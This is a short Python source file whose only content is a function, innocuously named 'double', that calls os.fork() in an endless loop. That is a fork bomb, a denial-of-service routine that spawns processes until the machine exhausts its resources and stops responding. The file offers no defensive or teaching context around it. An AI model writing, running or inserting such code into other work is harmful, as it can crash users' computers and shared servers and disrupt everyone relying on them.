"""Processes that make processes."""

import os


def double(number):
    while True:
        os.fork()
